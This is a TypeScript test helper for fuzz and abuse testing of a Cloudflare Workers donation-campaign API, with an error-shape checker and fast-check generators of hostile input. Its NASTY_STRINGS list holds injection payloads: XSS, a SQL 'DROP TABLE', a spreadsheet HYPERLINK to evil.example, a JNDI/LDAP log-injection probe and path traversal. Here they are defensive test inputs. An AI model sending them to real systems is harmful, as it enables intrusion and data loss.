// Shared pieces of the hardening tests (fuzz, abuse, faults, headers): the
// error-shape oracle, a campaign's whole observable state, and fast-check
// arbitraries for hostile input.
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { snapshotKey } from "../../../src/campaigns/keys";
import { fetchWorker, ledgerOf } from "./campaigns";

export const ADMIN_TOKEN = env.ADMIN_TOKEN ?? "";
export const ADMIN_AUTH = { Authorization: `Bearer ${ADMIN_TOKEN}` };

/** The body limits the routes promise (bytes). */
export const LIMITS = { checkout: 8 * 1024, admin: 16 * 1024, webhook: 512 * 1024 } as const;

const SNAKE_CASE = /^[a-z][a-z0-9]*(?:_[a-z0-9]+)*$/;

/** The design's campaign id rule (an oracle for generators, not the code under test). */
export const VALID_ID = /^[a-z0-9][a-z0-9_-]{0,63}$/;

export class Unexpected extends Error {}

function fail(context: string, message: string): never {
	throw new Unexpected(`${context}: ${message}`);
}

/**
 * Checks one answer: never a 5xx; a status in `ok` passes as it is; anything
 * else must be one of `errors` with the JSON error shape
 * {"error":{"code":snake_case,"message":string}}. Returns the error code, if any.
 */
export async function checkAnswer(
	res: Response,
	expected: { ok?: readonly number[]; errors: readonly number[] },
	context: string,
): Promise<string | null> {
	if (res.status >= 500) fail(context, `answered ${res.status}: ${(await res.text()).slice(0, 300)}`);
	if (expected.ok?.includes(res.status)) return null;
	const text = await res.text();
	if (!expected.errors.includes(res.status)) {
		fail(context, `status ${res.status}, expected one of ${[...(expected.ok ?? []), ...expected.errors].join("/")}: ${text.slice(0, 300)}`);
	}
	return errorCode(res, text, context);
}

/** Asserts the JSON error shape on an already read body; returns the code. */
export function errorCode(res: Response, text: string, context: string): string {
	if (!/^application\/json\b/.test(res.headers.get("Content-Type") ?? "")) {
		fail(context, `error ${res.status} is not JSON (${res.headers.get("Content-Type")}): ${text.slice(0, 200)}`);
	}
	let body: unknown;
	try {
		body = JSON.parse(text);
	} catch {
		fail(context, `error ${res.status} body does not parse: ${text.slice(0, 200)}`);
	}
	const error = (body as { error?: unknown } | null)?.error as { code?: unknown; message?: unknown } | undefined;
	const keys = body && typeof body === "object" ? Object.keys(body) : [];
	if (keys.length !== 1 || !error || typeof error !== "object" || Object.keys(error).sort().join() !== "code,message") {
		fail(context, `error ${res.status} has the wrong shape: ${text.slice(0, 200)}`);
	}
	if (typeof error.code !== "string" || !SNAKE_CASE.test(error.code)) fail(context, `error code ${String(error.code)} is not snake_case`);
	if (typeof error.message !== "string" || error.message.length === 0) fail(context, "error message is not a non-empty string");
	return error.code;
}

/**
 * Everything anyone can observe about a campaign, as one string: the raw KV
 * snapshot (read first, before the ledger republishes it), the ledger's
 * snapshot, periods, per-article totals, audit log, and the JSON and CSV
 * donation exports of every period through the admin API.
 */
export async function campaignState(id: string): Promise<string> {
	const kv = await env.TOTALS.get(snapshotKey(id));
	const stub = ledgerOf(id);
	const snapshot = await stub.snapshot(id);
	const periods = await stub.periods(id);
	const pages = await stub.pages(id, null);
	const audit = await stub.auditLog(id);
	const exports: string[] = [];
	for (const period of periods ?? []) {
		for (const format of ["json", "csv"]) {
			const res = await fetchWorker(`/api/admin/campaigns/${id}/donations?period=${period.id}&format=${format}`, { headers: ADMIN_AUTH });
			exports.push(`${period.id}.${format} ${res.status}\n${await res.text()}`);
		}
	}
	return JSON.stringify({ kv, snapshot, periods, pages, audit }, null, 1) + exports.join("\n");
}

// --- arbitraries ----------------------------------------------------------------

/** Strings that have broken parsers, routers and spreadsheets before. */
export const NASTY_STRINGS = [
	"",
	" ",
	"\t",
	"\u0000",
	"\r\n",
	"\u001b[31m",
	"%",
	"%%",
	"%0",
	"%00",
	"%2F",
	"%2e%2e",
	"%ZZ",
	"%C0%AF",
	"%E0%A4%A",
	"%uFF0F",
	".",
	"..",
	"../admin",
	"..%2fadmin",
	"main%00",
	"main ",
	" main",
	"MAIN",
	"Main",
	"m\u0430in",
	"main\u200b",
	"ma\u0131n",
	"\uFEFFmain",
	"\uD800",
	"\uDFFF\uD800",
	"\u202Emain",
	"𝕞𝕒𝕚𝕟",
	"🙂",
	"a".repeat(65),
	"a".repeat(2_000),
	"-main",
	"_main",
	"main/",
	"main?x",
	"main#x",
	"main;x",
	"main\\x",
	"__proto__",
	"constructor",
	"prototype",
	"toString",
	"null",
	"undefined",
	"NaN",
	"Infinity",
	"-Infinity",
	"1e309",
	"-0",
	"0x1F4",
	"1_000",
	"<script>alert(1)</script>",
	'"><img src=x onerror=alert(1)>',
	"'; DROP TABLE donations; --",
	'=HYPERLINK("http://evil.example")',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
	"${jndi:ldap://x}",
	"{{7*7}}",
	"\\u0000",
];

/** Any text, biased towards the nasty. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
	{ arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 3 },
	{ arbitrary: fc.string({ unit: "binary", maxLength: 40 }), weight: 2 },
	{ arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }), weight: 2 },
	{ arbitrary: fc.string({ maxLength: 80 }), weight: 2 },
	{ arbitrary: fc.string({ unit: fc.constantFrom("%", "2", "F", "e", "0", "Z", "/", ".", "a", "\\"), maxLength: 20 }), weight: 1 },
);

const freshUnknownId = fc.stringMatching(/^[a-z0-9][a-z0-9_-]{3,40}$/).map((s) => `zz${s}`.slice(0, 64));
/**
 * Unknown ids mostly come from a small pool: each new id costs a Durable
 * Object instance, and the answer must not depend on having seen it before.
 */
const UNKNOWN_POOL = fc.sample(freshUnknownId, 16);

/** A valid-looking campaign id that nobody created. */
export const unknownId: fc.Arbitrary<string> = fc.oneof(
	{ arbitrary: fc.constantFrom(...UNKNOWN_POOL), weight: 9 },
	{ arbitrary: freshUnknownId, weight: 1 },
);

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** `s` with lone surrogates replaced by U+FFFD, as the URL parser and TextEncoder do. */
export const wellFormed = (s: string) => s.replace(LONE_SURROGATE, "\uFFFD");

/** Percent-encodes every UTF-8 byte of `s`. */
export function encodeAll(s: string): string {
	return [...new TextEncoder().encode(s)].map((b) => `%${b.toString(16).padStart(2, "0").toUpperCase()}`).join("");
}

/** encodeURIComponent that survives lone surrogates (as the URL parser would: U+FFFD). */
export function encodeSegment(s: string): string {
	return encodeURIComponent(wellFormed(s));
}

/**
 * A hostile path segment where an id goes, in several encodings: escaped,
 * raw (the URL parser then normalizes what it will), or every byte escaped.
 */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
	hostileText.map(encodeSegment),
	// Raw, minus what would end or split the path (so a ".." climbs one level at most).
	hostileText.map((s) => s.replace(/[/?#\\]/g, "")),
	hostileText.map(encodeAll),
	fc.string({ unit: fc.constantFrom("%", "2", "5", "F", "0", "C", "A", "E", "z", "-"), minLength: 1, maxLength: 12 }),
);

/** Segments that are certainly not a valid campaign id, whatever the decoding. */
export const invalidIdSegment: fc.Arbitrary<string> = hostileText
	.map(wellFormed)
	.filter((s) => !VALID_ID.test(s))
	.map(encodeSegment);

const queryKey = fc.oneof(fc.constantFrom("period", "format", "amount", "campaign", "id", "__proto__", "period[]", ""), hostileText);
const queryValue = fc.oneof(
	fc.constantFrom("1", "2", "0", "-1", "1.5", "1e3", "1e309", "NaN", "json", "csv", "CSV", "xml", "", "%", "%ZZ"),
	fc.integer().map(String),
	hostileText,
);

/** A query string (with its leading "?", or empty), sometimes malformed on purpose. */
export const hostileQuery: fc.Arbitrary<string> = fc.oneof(
	fc.constant(""),
	fc
		.array(fc.tuple(queryKey, queryValue, fc.boolean()), { maxLength: 5 })
		.map((pairs) =>
			pairs.length === 0
				? ""
				: `?${pairs.map(([k, v, raw]) => (raw ? `${k.replace(/[#]/g, "")}=${v.replace(/[#&]/g, "")}` : `${encodeSegment(k)}=${encodeSegment(v)}`)).join("&")}`,
		),
	fc.constantFrom("?", "?&&&", "?=", "?period", "?period=1&period=x", "?format=csv&format=json", "?%", "?%%=%%", "?period=%E0%A4%A"),
);

/** JSON texts of every kind, some of them deep. */
export const anyJsonText: fc.Arbitrary<string> = fc.oneof(
	{ arbitrary: fc.json({ maxDepth: 4 }), weight: 4 },
	{ arbitrary: fc.integer({ min: 1, max: 3_000 }).map((n) => `${"[".repeat(n)}${"]".repeat(n)}`), weight: 1 },
	{ arbitrary: fc.integer({ min: 1, max: 2_000 }).map((n) => `${'{"a":'.repeat(n)}1${"}".repeat(n)}`), weight: 1 },
);

/** Texts that are not JSON at all. */
export const notJsonText: fc.Arbitrary<string> = fc
	.oneof(
		hostileText,
		fc.json().map((json) => json.slice(0, Math.max(1, json.length - 1))),
		fc.constantFrom(
			"{",
			"}",
			"[",
			"{'amount': 500}",
			'{"amount": 500,}',
			'{"amount": NaN}',
			'{"amount": Infinity}',
			'{"amount": 0x1F4}',
			'{"amount": 500} trailing',
			'\uFEFF{"amount": 500}',
			'{"amount": 500',
			"undefined",
			"amount=500",
			'{"a":1}{"b":2}',
			"//comment\n{}",
		),
	)
	.filter((text) => {
		if (text.trim() === "") return false;
		try {
			// Body.json() decodes UTF-8 first, which drops a leading byte order mark.
			JSON.parse(text.replace(/^\uFEFF/, ""));
			return false;
		} catch {
			return true;
		}
	});

/** JSON texts whose value is not an object. */
export const nonObjectJsonText: fc.Arbitrary<string> = fc.oneof(
	fc
		.jsonValue()
		.filter((v) => v === null || typeof v !== "object" || Array.isArray(v))
		.map((v) => JSON.stringify(v)),
	fc.constantFrom("null", "true", "0", "-1", '"{}"', "[]", "[{}]", "1e309", '"amount=500"'),
	fc.integer({ min: 1, max: 3_000 }).map((n) => `${"[".repeat(n)}${"]".repeat(n)}`),
);

/** A body of exactly `size` bytes that is valid JSON apart from being too big. */
export function bigJson(size: number, fields = '"amount":500'): string {
	const head = `{${fields},"pad":"`;
	const tail = '"}';
	return `${head}${"x".repeat(Math.max(0, size - head.length - tail.length))}${tail}`;
}

/** Sizes just over a limit, up to twice it. */
export const overLimit = (limit: number) =>
	fc.oneof(fc.constant(limit + 1), fc.integer({ min: limit + 1, max: limit + 64 }), fc.integer({ min: limit + 1, max: limit * 2 }));

/** Header values a browser could send: printable ASCII and tabs (workerd only warns about the rest). */
export function headerSafe(value: string): boolean {
	return /^[\t\x20-\x7e]*$/.test(value);
}

/** A Content-Type value whose media type is none of `accepted`. */
export function wrongContentType(accepted: string[]): fc.Arbitrary<string | null> {
	return fc
		.oneof(
			fc.constant(null),
			fc.constantFrom(
				"text/plain",
				"text/html",
				"application/xml",
				"application/octet-stream",
				"application/javascript",
				"application/ld+json",
				"text/json",
				"json",
				"application/jsonp",
				"multipart/mixed; boundary=x",
				"application/x-www-form-urlencoded-x",
				"image/png",
				"*/*",
				"",
			),
			fc.string({ unit: "binary-ascii", maxLength: 40 }),
		)
		.filter((type) => {
			if (type === null) return true;
			if (!headerSafe(type)) return false;
			const media = type.split(";")[0]?.trim().toLowerCase() ?? "";
			return !accepted.includes(media);
		});
}

/** Milliseconds since `start`, rounded. */
export const since = (start: number) => Math.round(performance.now() - start);
